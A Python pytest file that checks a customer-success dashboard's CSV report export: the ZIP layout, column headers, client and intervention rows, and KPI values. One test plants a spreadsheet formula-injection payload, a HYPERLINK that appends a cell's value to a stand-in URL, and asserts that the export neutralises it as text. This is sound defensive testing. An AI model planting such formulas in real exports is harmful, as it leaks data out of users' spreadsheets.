"""The CSV report of the book in ``conftest``: three files with the expected headers and rows."""

from __future__ import annotations

import csv
import io
import zipfile
from zoneinfo import ZoneInfo

import pandas as pd
import pytest

from dashboard.services.reports import render_report
from dashboard.services.reports.csv import frame_csv
from data.models import Client
from tests.unit.dashboard.services.reports.conftest import NOW_TS, TODAY

LONDON = ZoneInfo("Europe/London")
LINK = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'


def read_zip(content: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"))))
            for name in archive.namelist()
        }


def header(content: bytes, name: str) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name).decode("utf-8").splitlines()[0].split(",")


@pytest.fixture
def report(session, book):
    return render_report(session, "30d", "all", "csv", zone=LONDON, today=TODAY, now=NOW_TS)


def test_csv_report_is_a_zip_of_three_files_named_after_the_period(report):
    assert report.filename == "customer-success-30d-all-2024-03-02-to-2024-03-31.zip"
    assert report.mimetype == "application/zip"
    assert sorted(read_zip(report.content)) == ["clients.csv", "interventions.csv", "kpis.csv"]


def test_clients_csv_lists_the_segment_lowest_score_first(report):
    assert header(report.content, "clients.csv") == [
        "client_id", "name", "partner_names", "wedding_date", "venue", "status", "owner",
        "score_date", "score", "overall", "risk_level", "trend", "engagement", "progress",
        "satisfaction", "coverage", "primary_factor", "open_interventions",
    ]  # fmt: skip
    rows = read_zip(report.content)["clients.csv"]
    picked = [
        (r["client_id"], r["owner"], r["score_date"], r["score"], r["overall"], r["risk_level"],
         r["trend"], r["primary_factor"], r["open_interventions"])
        for r in rows
    ]  # fmt: skip
    assert picked == [
        ("c-ash", "Ann Owner", "2024-03-31", "35", "35.4", "critical", "declining", "logins", "1"),
        ("c-bay", "Ben Member", "2024-03-31", "53", "52.5", "high", "improving", "", "0"),
        ("c-new", "", "2024-03-31", "82", "82.0", "low", "stable", "", "0"),
        # Churned before the last scored day: listed, without a score.
        ("c-gone", "Ann Owner", "", "", "", "", "", "", "0"),
    ]
    ash = rows[0]
    assert (ash["name"], ash["partner_names"], ash["wedding_date"], ash["venue"]) == (
        "Ash Wedding", "Ash & Rowan", "2024-05-01", "Kew Gardens",
    )  # fmt: skip
    assert (ash["engagement"], ash["progress"], ash["satisfaction"], ash["coverage"]) == (
        "10.0", "60.0", "50.0", "0.9",
    )  # fmt: skip
    assert rows[3]["status"] == "churned"


def test_interventions_csv_has_those_open_during_the_period(report):
    rows = read_zip(report.content)["interventions.csv"]
    assert header(report.content, "interventions.csv")[:7] == [
        "id", "client_id", "client_name", "type", "priority", "status", "title",
    ]  # fmt: skip
    picked = [
        (r["client_id"], r["type"], r["priority"], r["status"], r["assigned_to_name"], r["overdue"],
         r["created_at"], r["completed_at"], r["outcome"], r["client_responded"])
        for r in rows
    ]  # fmt: skip
    # The cancelled call of c-gone closed on 25 Feb, before the period: not listed.
    assert picked == [
        ("c-ash", "call", "urgent", "pending", "Ann Owner", "true", "2024-03-28T10:00:00Z", "", "", ""),
        ("c-bay", "email", "medium", "completed", "Ben Member", "false", "2024-03-21T09:00:00Z",
         "2024-03-22T09:00:00Z", "resolved", "true"),
    ]  # fmt: skip


def test_kpis_csv_has_each_kpi_with_its_previous_value(report):
    assert header(report.content, "kpis.csv") == [
        "section", "kpi", "label", "unit", "value", "previous_value", "start", "end",
        "previous_start", "previous_end",
    ]  # fmt: skip
    rows = {r["kpi"]: r for r in read_zip(report.content)["kpis.csv"]}
    values = {key: (row["value"], row["previous_value"]) for key, row in rows.items()}
    # 31 Mar: 35, 53 and 82 -> 56.7; 25 Feb (last scored day of 1 Feb - 1 Mar): 70, 65, 55 -> 63.3
    assert values["average_health_score"] == ("56.7", "63.3")
    assert values["at_risk"] == ("2", "1")
    # Ash, Bay and Gone active on 2 Mar; Gone churned on 10 Mar, with 2,000.00 of 10,000.00.
    assert values["retention_rate"] == ("66.7", "100.0")
    assert values["revenue_retention_rate"] == ("80.0", "100.0")
    # Bay went from 48 to 53 (+5); Ash fell; New has one scored day.
    assert values["health_improvement_rate"] == ("50.0", "")
    assert values["success_rate"] == ("100.0", "")
    assert values["created"] == ("2", "1")
    assert values["avg_resolution_hours"] == ("24.0", "")
    # Counted now: no previous value.
    assert values["total_clients"] == ("3", "")
    assert values["active_interventions"] == ("1", "")
    assert values["overdue_interventions"] == ("1", "")
    ash = rows["average_health_score"]
    assert (ash["unit"], ash["start"], ash["end"], ash["previous_start"], ash["previous_end"]) == (
        "points", "2024-03-02", "2024-03-31", "2024-02-01", "2024-03-01",
    )  # fmt: skip


def test_new_clients_segment_lists_only_clients_created_in_the_period(session, book):
    report = render_report(
        session, "30d", "new_clients", "csv", zone=LONDON, today=TODAY, now=NOW_TS
    )
    rows = read_zip(report.content)
    assert [r["client_id"] for r in rows["clients.csv"]] == ["c-new"]
    assert rows["interventions.csv"] == []


# -- cells safe for spreadsheets (dashboard.services.safe_csv)


def test_a_formula_in_a_client_name_is_written_as_text(session, book):
    session.get(Client, "c-ash").name = LINK
    book.iv.urgent.title = "-1 day to call"
    session.commit()

    report = render_report(session, "30d", "all", "csv", zone=LONDON, today=TODAY, now=NOW_TS)

    rows = read_zip(report.content)
    ash = rows["clients.csv"][0]
    assert (ash["client_id"], ash["name"], ash["score"]) == ("c-ash", "'" + LINK, "35")
    urgent = rows["interventions.csv"][0]
    assert (urgent["client_name"], urgent["title"]) == ("'" + LINK, "'-1 day to call")


def test_report_files_keep_negative_numbers_as_numbers():
    frame = pd.DataFrame(
        {
            "label": ["+3 points", "Fell"],
            "change": [-5, 2],
            "rate": [-0.25, 0.5],
            "value": pd.Series([-6.6, None], dtype=object),
        }
    )

    assert frame_csv(frame).decode("utf-8") == (
        "label,change,rate,value\n'+3 points,-5,-0.25,-6.6\nFell,2,0.5,\n"
    )
